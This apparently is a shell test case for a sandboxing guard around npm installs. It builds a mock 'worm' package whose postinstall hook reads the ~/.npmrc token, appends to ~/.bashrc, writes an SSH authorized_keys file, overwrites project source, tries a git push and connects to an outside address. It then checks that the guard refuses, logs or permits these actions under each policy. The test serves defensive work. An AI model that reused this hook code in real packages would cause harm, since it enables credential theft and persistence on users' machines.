# SPDX-License-Identifier: Apache-2.0
# A package whose postinstall reads ~/.npmrc and sends it, writes ~/.bashrc, adds an ssh key and pushes to git: all of
# it is refused, the honest rest of the install goes on, and one line tells what was wanted. The workspace's
# own prepare script is no stranger. Off and log do as they say.
# timeout: 240
. "$LIB/case.sh"
with_undo
command -v npm >/dev/null || skip "no npm here"
export npm_config_update_notifier=false
mkdir -p worm/lib honest app "$HOME/.ssh"
echo '//registry.test/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789' >"$HOME/.npmrc"
echo 'precious' >"$HOME/.bashrc"
echo '{"name":"worm","version":"1.0.0","scripts":{"postinstall":"node worm.js"}}' >worm/package.json
cat >worm/worm.js <<'JS'
const { execFileSync } = require("child_process");
const { writeFileSync, appendFileSync, readFileSync } = require("fs");
const home = process.env.HOME;
const tried = [];
const attempt = (name, act) => {
  try { act(); tried.push(name + " done"); } catch (error) { tried.push(name + " " + (error.code || error.status)); }
};
attempt("token", () => readFileSync(home + "/.npmrc"));
attempt("bashrc", () => appendFileSync(home + "/.bashrc", "evil"));
attempt("key", () => writeFileSync(home + "/.ssh/authorized_keys", "evil"));
attempt("source", () => writeFileSync(process.env.INIT_CWD + "/index.js", "evil"));
attempt("push", () => execFileSync("git", ["push", "https://127.0.0.1:9/x", "HEAD"], { stdio: "ignore" }));
attempt("own", () => writeFileSync("built", "ok"));
attempt("scratch", () => writeFileSync(process.env.ROOM + "/tmp/scratch", "ok"));
writeFileSync("tried", tried.join("\n"));
require("net").connect(443, "192.0.2.7").on("error", () => {}).on("connect", () => {}).setTimeout(1000, function () { this.destroy(); });
JS
echo '{"name":"honest","version":"1.0.0","scripts":{"install":"node build.js"}}' >honest/package.json
echo 'require("fs").mkdirSync("build"); require("fs").writeFileSync("build/x.node", "compiled")' >honest/build.js
cat >app/package.json <<'JSON'
{"name":"app","version":"1.0.0","scripts":{"prepare":"mkdir -p generated && echo made >generated/file"},
 "dependencies":{"worm":"file:../worm/worm-1.0.0.tgz","honest":"file:../honest/honest-1.0.0.tgz"}}
JSON
(cd worm && npm pack --silent --offline >/dev/null && cd ../honest && npm pack --silent --offline >/dev/null)
mkdir -p "$CASE_ROOM/tmp"
export ROOM=$CASE_ROOM TMPDIR=$CASE_ROOM/tmp
cat >policy.yaml <<'YAML'
categories: {DEPS_INSTALL_UPDATE: 1}
YAML
cp policy.yaml "$CASE_ROOM/policy.yaml"
install() { # POLICY_LINE
  { cat policy.yaml && echo "$1"; } >"$CASE_ROOM/policy.yaml"
  rm -rf app/node_modules app/generated app/package-lock.json
  guard_run --policy "$CASE_ROOM/policy.yaml" --on-ask deny --fail-on never --workspace "$PWD/app" -- bash -c \
    "cd app && npm install --offline --no-audit --no-fund --silent"
}
install "installs: {scripts: on}"
[[ -e app/node_modules/worm/tried ]] || fail "the worm did not run: $(<"$OUT")"
tried=$(<app/node_modules/worm/tried)
for one in "token EACCES" "bashrc EPERM" "key EPERM" "source EPERM" "own done" "scratch done"; do
  [[ $'\n'$tried$'\n' == *$'\n'"$one"$'\n'* ]] || fail "not '$one' but: $tried"
done
[[ $tried != *"push done"* ]] || fail "it pushed"
assert_content "$HOME/.bashrc" precious
assert_missing "$HOME/.ssh/authorized_keys" app/index.js
assert_exists app/node_modules/honest/build/x.node app/generated/file
assert_status 0
[[ $(grep -c "^guard: worm's postinstall wanted .*: refused$" "$ERR") == 1 ]] || fail "not one line: $(<"$ERR")"
line=$(grep "^guard: worm's postinstall wanted" "$ERR")
for one in "~/.npmrc" "~/.bashrc" "~/.ssh/authorized_keys" "git push" "192.0.2.7"; do
  [[ $line == *"$one"* ]] || fail "the line does not name $one: $line"
done
assert_silent "$ERR" "honest's"
assert_recorded "r['rule'] == 'installs.secret' and r['decision'] == 'deny'"
assert_recorded "r['rule'] == 'installs.script' and r['risk_tier'] == 3 and 'worm' in r['reason'] and '.bashrc' in r['reason']"
# Logged alone, and not at all: as any command.
install "installs: {scripts: log}"
[[ $(<app/node_modules/worm/tried) == *"source done"* ]] || fail "log refuses: $(<app/node_modules/worm/tried)"
grep -q "^guard: worm's postinstall wanted .*: only logged$" "$ERR" || fail "nothing is told: $(<"$ERR")"
rm -f app/index.js
install "installs: {scripts: off}"
[[ $(<app/node_modules/worm/tried) == *"source done"* ]] || fail "off refuses: $(<app/node_modules/worm/tried)"
assert_silent "$ERR" "postinstall wanted"
